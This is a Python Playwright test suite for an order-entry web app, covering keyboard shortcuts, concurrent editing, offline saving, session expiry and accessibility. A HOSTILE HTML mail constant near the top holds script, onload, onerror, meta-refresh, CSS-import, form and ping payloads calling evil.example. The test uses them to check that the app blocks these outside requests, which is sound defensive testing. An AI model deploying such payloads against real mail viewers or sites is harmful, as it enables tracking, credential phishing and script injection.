"""The workbench in a real browser: by keyboard alone, with two clerks, with a cut connection, with a hostile mail."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect
from sqlmodel import col, select

from models.confirmation import confirm
from models.content import value
from models.database import snapshot, transaction
from models.tables import Case, Draft, Order, OrderLine
from tests.review.browsing import chromium, sign_in, violations
from tests.review.conftest import House
from tests.review.readings import as_last_time, leaf, order, order_mail, reading

pytestmark = [
    pytest.mark.skipif(chromium() is None, reason="chromium is not installed; on Debian: apt-get install chromium"),
    pytest.mark.xdist_group("browser"),
]

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/style.css"><style>@import url(http://evil.example/import.css);</style></head>
<body onload="fetch('http://evil.example/onload')" background="http://evil.example/background.png">
<p>Bitte liefern Sie <b>drei Kartons</b>.</p><script>fetch('http://evil.example/script')</script>
<img src="http://evil.example/pixel.png" onerror="fetch('http://evil.example/onerror')">
<img src="x" srcset="http://evil.example/set.png 2x">
<div style="background:url(http://evil.example/css.png)">x</div>
<svg onload="fetch('http://evil.example/svg')"><image href="http://evil.example/i.png"/></svg>
<form action="http://evil.example/form"><input name="password"><button>Weiter</button></form>
<iframe src="http://evil.example/frame"></iframe>
<video src="http://evil.example/v.mp4" autoplay></video><a href="javascript:alert(1)">Link</a>
<a ping="http://evil.example/ping" href="http://evil.example/link">Link</a></body></html>"""


def test_a_right_draft_takes_one_key(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft, following = house.draft(), house.draft(mail=order_mail(subject="Die nächste"))
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")

    page.keyboard.press("Enter")

    page.wait_for_url(re.compile(f"/drafts/{following.id}"))
    assert [row.draft_id for row in orders(house)] == [draft.id]


def test_enter_leads_from_look_to_look_and_then_confirms(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft(reading(order(("lines.1.quantity", "lines", "fields.ship_to"))))
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")
    expect(page.locator("#f-lines-1-quantity")).to_be_focused()

    page.keyboard.press("Enter")
    expect(page.locator('[data-look-button="lines"]')).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator('[data-look-button="fields.ship_to"]')).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#go")).to_be_focused()
    page.keyboard.press("Enter")

    page.wait_for_url(f"{url}/")
    assert len(orders(house)) == 1


def test_a_corrected_quantity_is_saved_priced_and_confirmed(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft(reading(order(("lines.1.quantity",))))
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")
    before = page.locator("#ours-gross_total").inner_text()

    page.keyboard.type("40")
    page.keyboard.press("Enter")
    expect(page.locator("#go")).to_be_focused()
    expect(page.locator("#ours-gross_total")).not_to_have_text(before)
    gross = page.locator("#ours-gross_total").inner_text()
    page.keyboard.press("Enter")
    page.wait_for_url(f"{url}/")

    (confirmed,) = orders(house)
    assert f"{confirmed.gross_total:.2f}".replace(".", ",") == gross.replace(".", "")
    with snapshot(house.engine) as session:
        assert [line.quantity for line in session.exec(select(OrderLine).order_by(col(OrderLine.position)))] == [3, 40]


def test_focus_in_a_field_lights_its_evidence(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    page = clerk("anna")
    page.goto(f"{url}/drafts/{house.draft().id}")

    page.locator("#f-fields-order_number").focus()

    expect(page.locator(".text mark.lit")).to_have_text("PO-4711")
    expect(page.locator("#why")).to_contain_text("98 %")


def test_an_article_is_found_by_its_name_and_taken_by_keyboard(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")
    page.locator("#f-lines-0-sku").fill("")
    page.locator("#f-lines-0-sku").press_sequentially("sechskantschraube M6 x 30")
    expect(page.locator("#f-lines-0-sku-options li").first).to_contain_text("SK-933-0630")

    page.keyboard.press("ArrowDown")
    with page.expect_response(re.compile("/save$")):
        page.keyboard.press("Enter")

    assert value(reloaded(house, draft).content, "lines.0.sku") == "SK-933-0630"


def test_the_lines_of_the_last_order_are_taken_over_with_one_key(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    first = house.draft()
    page = clerk("anna")
    page.goto(f"{url}/drafts/{first.id}")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{url}/")
    draft = house.draft(reading(as_last_time()), order_mail("Wie letztes Mal bitte.", "Bestellung"))
    page.goto(f"{url}/drafts/{draft.id}")

    page.keyboard.press("Alt+l")
    expect(page.locator("#f-lines-0-sku")).to_be_focused()
    expect(page.locator("#f-lines-1-quantity")).to_have_value("20")
    expect(page.locator("#take-over")).to_have_count(0)

    assert len(reloaded(house, draft).content["lines"]) == 2


def test_lines_are_put_in_and_taken_out_by_keyboard(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")

    page.keyboard.press("Alt+i")
    expect(page.locator("#f-lines-2-sku")).to_be_focused()
    page.keyboard.press("Alt+x")
    expect(page.locator("#f-lines-2-sku")).to_have_count(0)

    assert len(reloaded(house, draft).content["lines"]) == 2


def test_a_draft_is_rejected_with_a_reason_by_keyboard(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")

    page.keyboard.press("Alt+r")
    page.keyboard.type("Doppelt bestellt")
    page.keyboard.press("Enter")
    page.wait_for_url(f"{url}/")

    saved = reloaded(house, draft)
    assert (saved.state, saved.reason) == ("rejected", "Doppelt bestellt")


def test_a_complaint_goes_to_customer_service_with_one_key(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft(reading(kind="complaint"), order_mail("Die Schrauben sind krumm."))
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")

    page.keyboard.press("Enter")
    page.wait_for_url(f"{url}/")

    with snapshot(house.engine) as session:
        assert session.exec(select(Case)).one().message_id == draft.message_id


def test_an_order_by_telephone_is_entered_from_nothing(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    page = clerk("anna")
    page.get_by_role("button", name="Neuer Auftrag").click()
    page.wait_for_url("**/drafts/1*")  # loaded with its scripts: what is typed before them is only sent with the whole form

    for field, typed in (
        ("fields-customer_number", "10023"),
        ("fields-payment_method", ""),
        ("lines-0-sku", "SK-933-0620"),
        ("lines-0-quantity", "2,5"),
    ):
        if typed:
            page.locator(f"#f-{field}").fill(typed)
    page.locator("#f-fields-payment_method").select_option("invoice")
    expect(page.locator("#ours-gross_total")).to_contain_text("33,50")
    page.locator("#go").click()
    page.wait_for_url(f"{url}/")

    assert [(row.customer_number, row.draft_id) for row in orders(house)] == [("10023", 1)]


def test_what_cannot_be_understood_is_said_beside_its_field(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    page = clerk("ben")
    page.goto(f"{url}/drafts/{draft.id}")

    page.locator("#f-lines-0-quantity").fill("three")
    page.keyboard.press("Tab")

    expect(page.locator("#n-lines-0-quantity")).to_contain_text("no number")
    expect(page.locator("#f-lines-0-quantity")).to_have_value("three")
    expect(page.locator("#go")).to_contain_text("To be mended (1)")


def test_two_clerks_lose_nothing(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    anna, ben = clerk("anna"), clerk("ben")
    ben.goto(f"{url}/drafts/{draft.id}")
    anna.goto(f"{url}/drafts/{draft.id}")
    with anna.expect_navigation():
        anna.keyboard.press("Alt+u")
    with anna.expect_response(re.compile("/save$")):
        anna.locator("#f-lines-0-quantity").fill("4")
        anna.keyboard.press("Tab")

    ben.locator("#f-lines-0-quantity").fill("5")
    ben.keyboard.press("Tab")

    expect(ben.get_by_role("heading", name="Two at once")).to_be_visible()
    expect(ben.get_by_label("5", exact=True)).to_be_visible()
    expect(ben.get_by_label("4", exact=True)).to_be_checked()
    ben.get_by_label("5", exact=True).check()
    ben.get_by_role("button", name="Save what is chosen").click()
    ben.wait_for_url(re.compile(f"/drafts/{draft.id}$"))
    assert value(reloaded(house, draft).content, "lines.0.quantity") == "5"


def test_a_double_click_and_the_back_button_confirm_once(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")

    page.locator("#go").dblclick()
    page.wait_for_url(f"{url}/")
    page.go_back()

    expect(page.get_by_text("Daraus ist ein Auftrag geworden")).to_be_visible()
    assert len(orders(house)) == 1


def test_a_cut_connection_keeps_what_was_typed_and_saves_it_later(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")
    page.context.set_offline(True)
    page.locator("#f-lines-0-quantity").fill("7")
    page.keyboard.press("Tab")
    expect(page.locator("#lost")).to_contain_text("Nicht gespeichert")

    with page.expect_response(re.compile("/save$")):
        page.context.set_offline(False)
    expect(page.locator("#lost")).to_be_hidden()

    assert value(reloaded(house, draft).content, "lines.0.quantity") == "7"


def test_a_session_that_ends_keeps_what_was_typed(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft()
    page = clerk("anna")
    page.goto(f"{url}/drafts/{draft.id}")
    page.context.clear_cookies(name="mailorder_session")
    page.locator("#f-lines-0-quantity").fill("8")
    page.keyboard.press("Tab")
    expect(page.locator("#lost")).to_contain_text("Sitzung ist zu Ende")

    other = page.context.new_page()
    sign_in(other, url, "anna")
    with page.expect_response(re.compile("/save$")):
        page.get_by_role("button", name="Noch einmal speichern").click()
    expect(page.locator("#lost")).to_be_hidden()

    assert value(reloaded(house, draft).content, "lines.0.quantity") == "8"


def test_a_hostile_mail_makes_no_request_and_runs_nothing(house: House, url: str, clerk: Callable[[str], Page]) -> None:
    draft = house.draft(mail=order_mail(html=HOSTILE))
    page = clerk("anna")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    page.goto(f"{url}/drafts/{draft.id}")

    page.locator(".as-sent summary").click()
    frame = page.frame_locator(".as-sent iframe")
    expect(frame.get_by_text("drei Kartons")).to_be_visible()
    page.frames[-1].wait_for_load_state("load")  # by then the frame has asked for all that it would ask for

    assert page.frames[-1].url.startswith(url)
    assert [one for one in asked if not one.startswith((url, "data:"))] == []
    assert frame.locator("script, form, input, button, iframe, svg, a[href], img[src]").count() == 0


@pytest.mark.parametrize(("name", "scheme"), [("anna", "light"), ("ben", "dark")], ids=["German, light", "English, dark"])
def test_no_page_has_a_barrier(house: House, url: str, clerk: Callable[..., Page], name: str, scheme: str) -> None:
    with transaction(house.engine) as session:
        first = house.draft(mail=order_mail(subject="Die erste"))
        confirm(session, first.id or 0, first.version, "anna", house.settings)
    draft = house.draft(reading(order(("lines.1.quantity", "lines", "fields.ship_to"))))
    again = house.draft(reading(as_last_time()), order_mail("Wie letztes Mal bitte."))
    complaint = house.draft(reading(kind="complaint", about={"order_number": leaf("4711"), "customer_number": None}), order_mail("Krumm."))
    page = clerk(color_scheme=scheme)
    found: dict[str, list[str]] = {}

    page.goto(f"{url}/login?language={'de' if name == 'anna' else 'en'}")
    found["login"] = violations(page)
    sign_in(page, url, name)
    for path in ("/", f"/drafts/{draft.id}", f"/drafts/{again.id}", f"/drafts/{complaint.id}", "/orders", "/cases", "/upload", "/nowhere"):
        page.goto(f"{url}{path}")
        found[path] = violations(page)

    assert {path: lines for path, lines in found.items() if lines} == {}


def test_a_narrow_page_does_not_scroll_sideways(house: House, url: str, clerk: Callable[..., Page]) -> None:
    with transaction(house.engine) as session:
        first = house.draft(mail=order_mail(subject="Die erste"))
        confirm(session, first.id or 0, first.version, "anna", house.settings)
    draft = house.draft(reading(order(("lines.1.quantity",))))
    again = house.draft(reading(as_last_time()), order_mail("Wie letztes Mal bitte."))
    page = clerk("anna", viewport={"width": 360, "height": 740})

    wide = {}
    for path in ("/", f"/drafts/{draft.id}", f"/drafts/{again.id}", "/orders", "/cases", "/upload"):
        page.goto(f"{url}{path}")
        wide[path] = page.evaluate("document.documentElement.scrollWidth")

    assert {path: width for path, width in wide.items() if width > 360} == {}


def orders(house: House) -> list[Order]:
    with snapshot(house.engine) as session:
        return list(session.exec(select(Order)))


def reloaded(house: House, draft: Draft) -> Draft:
    with snapshot(house.engine) as session:
        return session.get_one(Draft, draft.id)
